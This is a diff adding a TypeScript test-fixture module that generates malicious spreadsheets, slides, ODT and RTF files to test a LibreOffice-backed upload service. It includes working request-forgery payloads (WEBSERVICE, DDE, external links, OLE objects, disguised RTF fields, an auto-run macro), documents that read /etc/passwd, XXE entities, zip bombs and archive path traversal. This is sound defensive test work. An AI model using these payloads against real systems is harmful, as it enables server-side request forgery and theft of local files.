@@ -1,0 +1,220 @@
+import {
+  richText,
+  sheetFile,
+  slideFile,
+  slidePicture,
+  textFile,
+} from '../../harness/office-packages.ts';
+
+/** Makes a document that would fetch from an address, or read a file. */
+type Attack = (url: string) => Uint8Array<ArrayBuffer>;
+
+const formula = (text: string) =>
+  `<c r="A1"><f>${text.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}</f><v>7</v></c>`;
+
+const drawing = (url: string) => ({
+  after: '<drawing r:id="d"/>',
+  links: [['d', 'drawing', '../drawings/d.xml']] as const,
+  types: { 'xl/drawings/d.xml': 'application/vnd.openxmlformats-officedocument.drawing+xml' },
+  files: {
+    'xl/drawings/d.xml': `<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><xdr:oneCellAnchor><xdr:from><xdr:col>1</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>1</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:ext cx="900000" cy="900000"/><xdr:pic><xdr:nvPicPr><xdr:cNvPr id="1" name="p"/><xdr:cNvPicPr/></xdr:nvPicPr><xdr:blipFill><a:blip r:link="i"/><a:stretch><a:fillRect/></a:stretch></xdr:blipFill><xdr:spPr><a:prstGeom prst="rect"/></xdr:spPr></xdr:pic><xdr:clientData/></xdr:oneCellAnchor></xdr:wsDr>`,
+    'xl/drawings/_rels/d.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="i" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="${url}/x.png" TargetMode="External"/></Relationships>`,
+  },
+});
+
+const SHEETS: Readonly<Record<string, Attack>> = {
+  'WEBSERVICE of a workbook': (url) =>
+    sheetFile({ cells: formula(`_xlfn.WEBSERVICE("${url}/x.png")`) }),
+  'DDE of a workbook': (url) => sheetFile({ cells: formula(`DDE("soffice","${url}/x.png","A1")`) }),
+  'a formula of a workbook that names another document': (url) =>
+    sheetFile({ cells: formula(`'${url}/x.png'#$Sheet1.A1`) }),
+  'INDIRECT of a workbook': (url) =>
+    sheetFile({ cells: formula(`INDIRECT("'${url}/x.png'#$Sheet1.A1")`) }),
+  'an external link of a workbook': (url) =>
+    sheetFile({
+      cells: formula('[1]Sheet1!A1'),
+      workbook: '<externalReferences><externalReference r:id="e"/></externalReferences>',
+      mainLinks: [['e', 'externalLink', 'externalLinks/e.xml']],
+      files: {
+        'xl/externalLinks/e.xml': `<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="x"/></externalLink>`,
+        'xl/externalLinks/_rels/e.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="x" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="${url}/x.png" TargetMode="External"/></Relationships>`,
+      },
+    }),
+  'a picture of a workbook': (url) => sheetFile(drawing(url)),
+  'the background of a sheet': (url) =>
+    sheetFile({
+      after: '<picture r:id="b"/>',
+      links: [['b', 'image', `${url}/x.png`, true]],
+    }),
+  'an OLE object of a workbook': (url) =>
+    sheetFile({
+      after: '<oleObjects><oleObject progId="Word.Document" shapeId="1" r:id="o"/></oleObjects>',
+      links: [['o', 'oleObject', `${url}/x.png`, true]],
+    }),
+};
+
+const SLIDES: Readonly<Record<string, Attack>> = {
+  'a picture of a slide': (url) =>
+    slideFile({
+      shapes: slidePicture('r:link="i"'),
+      links: [['i', 'image', `${url}/x.png`, true]],
+    }),
+  'an embedded picture of a slide that is elsewhere': (url) =>
+    slideFile({
+      shapes: slidePicture('r:embed="i"'),
+      links: [['i', 'image', `${url}/x.png`, true]],
+    }),
+  'a film of a slide': (url) =>
+    slideFile({
+      shapes: slidePicture('r:embed="none"').replace(
+        '<p:nvPr/>',
+        '<p:nvPr><a:videoFile r:link="v"/></p:nvPr>',
+      ),
+      links: [['v', 'video', `${url}/x.png`, true]],
+    }),
+  'an OLE object of a slide': (url) =>
+    slideFile({
+      shapes:
+        '<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="9" name="o"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr><p:xfrm><a:off x="0" y="0"/><a:ext cx="99999" cy="99999"/></p:xfrm><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole"><p:oleObj progId="Word.Document" r:id="o"><p:link/></p:oleObj></a:graphicData></a:graphic></p:graphicFrame>',
+      links: [['o', 'oleObject', `${url}/x.png`, true]],
+    }),
+  'the sound of a slide': (url) =>
+    slideFile({
+      after:
+        '<p:transition><p:sndAc><p:stSnd><p:snd r:embed="s" name="x"/></p:stSnd></p:sndAc></p:transition>',
+      links: [['s', 'audio', `${url}/x.png`, true]],
+    }),
+};
+
+const inFrame = (inner: string) =>
+  `<text:p><draw:frame svg:width="3cm" svg:height="3cm" text:anchor-type="paragraph">${inner}</draw:frame></text:p>`;
+
+const link = (url: string) =>
+  `xlink:href="${url}/x.png" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"`;
+
+const TEXTS: Readonly<Record<string, Attack>> = {
+  'a picture of a text': (url) => textFile({ body: inFrame(`<draw:image ${link(url)}/>`) }),
+  'a section of a text': (url) =>
+    textFile({
+      body: `<text:section text:name="s"><text:section-source ${link(url)}/><text:p/></text:section>`,
+    }),
+  'a floating frame of a text': (url) =>
+    textFile({ body: inFrame(`<draw:floating-frame ${link(url)}/>`) }),
+  'a plug-in of a text': (url) =>
+    textFile({ body: inFrame(`<draw:plugin ${link(url)} draw:mime-type="image/png"/>`) }),
+  'an object of a text': (url) => textFile({ body: inFrame(`<draw:object ${link(url)}/>`) }),
+  'an OLE object of a text': (url) =>
+    textFile({ body: inFrame(`<draw:object-ole ${link(url)}/>`) }),
+  'the background of a text': (url) =>
+    textFile({
+      before: `<office:automatic-styles><style:style style:name="b" style:family="paragraph"><style:paragraph-properties><style:background-image ${link(url)}/></style:paragraph-properties></style:style></office:automatic-styles>`,
+      body: '<text:p text:style-name="b">b</text:p>',
+    }),
+  'a font of a text': (url) =>
+    textFile({
+      before: `<office:font-face-decls><style:font-face style:name="F" svg:font-family="F"><svg:font-face-src><svg:font-face-uri ${link(url)}><svg:font-face-format svg:string="truetype"/></svg:font-face-uri></svg:font-face-src></style:font-face></office:font-face-decls>`,
+    }),
+  'a macro of a text': (url) =>
+    textFile({
+      before: `<office:scripts><office:script script:language="ooo:Basic"><ooo:libraries><ooo:library-embedded ooo:name="Standard"><ooo:module ooo:name="M"><ooo:source-code>Sub Main
+createUnoService("com.sun.star.ucb.SimpleFileAccess").openFileRead("${url}/x.png")
+End Sub</ooo:source-code></ooo:module></ooo:library-embedded></ooo:libraries></office:script><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document"/></office:event-listeners></office:scripts>`,
+    }),
+};
+
+const field = (code: string) => `{\\field{\\*\\fldinst ${code}}{\\fldrslt }}`;
+
+const RICH_TEXTS: Readonly<Record<string, Attack>> = {
+  'INCLUDEPICTURE of an RTF': (url) => richText(field(`INCLUDEPICTURE "${url}/x.png" \\\\d`)),
+  'a disguised INCLUDEPICTURE of an RTF': (url) =>
+    richText(`{\\field{\\fldinst I\\'4eCLUDE{\\b PICTURE} "${url}/x.png"}{\\fldrslt }}`),
+  'INCLUDETEXT of an RTF': (url) => richText(field(`INCLUDETEXT "${url}/x.png"`)),
+  'DDEAUTO of an RTF': (url) => richText(field(`DDEAUTO soffice "${url}/x.png" A1`)),
+  'the template of an RTF': (url) => richText(`{\\*\\template ${url}/x.png}`),
+  'a linked object of an RTF': (url) =>
+    richText(
+      `{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document.8}{\\*\\objdata ${Buffer.from(`${url}/x.png`).toString('hex')}}{\\result }}`,
+    ),
+  'a linked shape of an RTF': (url) =>
+    richText(
+      `{\\shp{\\*\\shpinst\\shpleft0\\shptop0\\shpright999\\shpbottom999{\\sp{\\sn shapeType}{\\sv 75}}{\\sp{\\sn pibName}{\\sv ${url}/x.png}}{\\sp{\\sn pibFlags}{\\sv 10}}}}`,
+    ),
+};
+
+/** By what would ask. */
+export const UPLOADS: Readonly<Record<string, Attack>> = {
+  ...SHEETS,
+  ...SLIDES,
+  ...TEXTS,
+  ...RICH_TEXTS,
+};
+
+/** Those that LibreOffice 7.4 asks for, left to itself: they show that the payloads work, and what extension they need. */
+export const HEEDED: readonly (readonly [name: string, extension: string])[] = [
+  ['a picture of a workbook', 'xlsx'],
+  ['a picture of a slide', 'pptx'],
+  ['a picture of a text', 'odt'],
+];
+
+const SECRET = 'file:///etc/passwd';
+
+/** Documents that would show a file of the machine. */
+export const READERS: Readonly<Record<string, Uint8Array<ArrayBuffer>>> = {
+  'a section of a text': textFile({
+    body: `<text:section text:name="s"><text:section-source xlink:href="${SECRET}" text:filter-name="Text"/><text:p/></text:section>`,
+  }),
+  'a floating frame of a text': textFile({
+    body: inFrame(`<draw:floating-frame xlink:href="${SECRET}"/>`),
+  }),
+  'a linked table of a text': textFile({
+    body: `<table:table><table:table-source xlink:href="${SECRET}" table:table-name="x"/><table:table-column/><table:table-row><table:table-cell><text:p/></table:table-cell></table:table-row></table:table>`,
+  }),
+  'INCLUDETEXT of an RTF': richText(field(`INCLUDETEXT "${SECRET}"`)),
+  'a linked workbook': sheetFile({ cells: formula(`'${SECRET}'#$Sheet1.A1`) }),
+  'INDIRECT of a workbook': sheetFile({ cells: formula(`INDIRECT("'${SECRET}'#$passwd.A1")`) }),
+};
+
+const entity = `<!DOCTYPE x [<!ENTITY e SYSTEM "${SECRET}">]>`;
+const zeros = new Uint8Array(64 * 1024 * 1024);
+
+/** Documents that are refused, and a word of the reason. */
+export const REFUSED: Readonly<Record<string, readonly [Uint8Array<ArrayBuffer>, string]>> = {
+  'an entity in a text': [
+    textFile({ files: { 'styles.xml': `${entity}<x>&e;</x>` } }),
+    'document type',
+  ],
+  'an entity in a workbook': [
+    sheetFile({
+      mainLinks: [['s', 'sharedStrings', 's.xml']],
+      files: { 'xl/s.xml': `${entity}<x>&e;</x>` },
+    }),
+    'document type',
+  ],
+  'an entity in a slide': [
+    slideFile({
+      mainLinks: [['t', 'theme', 't.xml']],
+      files: { 'ppt/t.xml': `${entity}<x>&e;</x>` },
+    }),
+    'document type',
+  ],
+  'a bomb in a text': [textFile({ files: { 'Pictures/x.png': zeros } }), 'times its size'],
+  'a bomb in a workbook': [sheetFile({ files: { 'xl/x.bin': zeros } }), 'times its size'],
+  'macros in a workbook': [
+    sheetFile({ files: { 'xl/vbaProject.bin': zeros.slice(0, 9) } }),
+    'macros',
+  ],
+  'macros in slides': [slideFile({ files: { 'ppt/vbaProject.bin': zeros.slice(0, 9) } }), 'macros'],
+  'a sheet of macros': [
+    sheetFile({
+      mainLinks: [['m', 'xlMacrosheet', 'm.xml']],
+      files: { 'xl/m.xml': '<x/>' },
+    }),
+    'macros',
+  ],
+  'a formula that nobody computes': [
+    sheetFile({ cells: formula('WEBSERVICE("http://127.0.0.1/")').replace('<v>7</v>', '') }),
+    'Data',
+  ],
+  'groups without an end': [richText('{'.repeat(5_000)), 'deeper'],
+  'a path out of the archive': [textFile({ files: { '../../../etc/passwd': 'x' } }), 'leads out'],
+};
